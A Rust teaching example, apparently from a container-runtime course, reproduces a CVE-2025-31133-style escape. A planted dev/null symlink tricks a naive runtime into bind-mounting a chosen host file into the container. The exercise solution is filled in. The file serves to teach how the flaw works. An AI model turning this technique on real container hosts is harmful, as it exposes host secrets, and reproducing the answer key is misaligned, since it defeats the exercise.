//! A careless runtime masks a file with the container's own /dev/null:
//! CVE-2025-31133, small.
//! Run: `sudo target/debug/examples/masked-by-a-link ROOT SECRET COMMAND..`

use anyhow::{Result, bail};
use namespaces::mounts::Mount;
use namespaces::namespace::{Namespace, Namespaces, unshare};
use namespaces::rootfs::{bind_root, make_private, pivot};
use nix::sys::stat::{Mode, SFlag, makedev, mknod};
use std::fs;
use std::os::unix::fs::symlink;
use std::os::unix::process::CommandExt;
use std::path::Path;
use std::process::Command;

fn main() -> Result<()> {
    let argv: Vec<_> = std::env::args().skip(1).collect();
    let [root, secret, program, args @ ..] = argv.as_slice() else {
        bail!("usage: masked-by-a-link ROOT SECRET COMMAND..");
    };
    let root = Path::new(root);
    fs::create_dir_all(root.join("dev"))?;
    plant(root, secret)?;
    unshare(Namespaces::from_iter([Namespace::Mount]))?;
    make_private()?;
    mask(root)?;
    pivot(bind_root(root)?)?;
    Err(Command::new(program).args(args).exec().into())
}

/// The image: whatever its author likes, below `root`.
fn plant(root: &Path, secret: &str) -> Result<()> {
    // EXERCISE 02.11 begin
    // STARTER: // There is an empty directory `dev` in it.
    // STARTER: Ok(())
    // Absolute, and followed before the pivot: a path of the host.
    Ok(symlink(secret, root.join("dev/null"))?)
    // EXERCISE 02.11 end
}

/// The runtime: hides /masked.
fn mask(root: &Path) -> Result<()> {
    let null = root.join("dev/null");
    if !null.exists() {
        let mode = Mode::from_bits_truncate(0o666);
        mknod(&null, SFlag::S_IFCHR, mode, makedev(1, 3))?;
    }
    fs::write(root.join("masked"), "to be hidden")?;
    Ok(Mount::bind(null, root.join("masked")).mount()?)
}
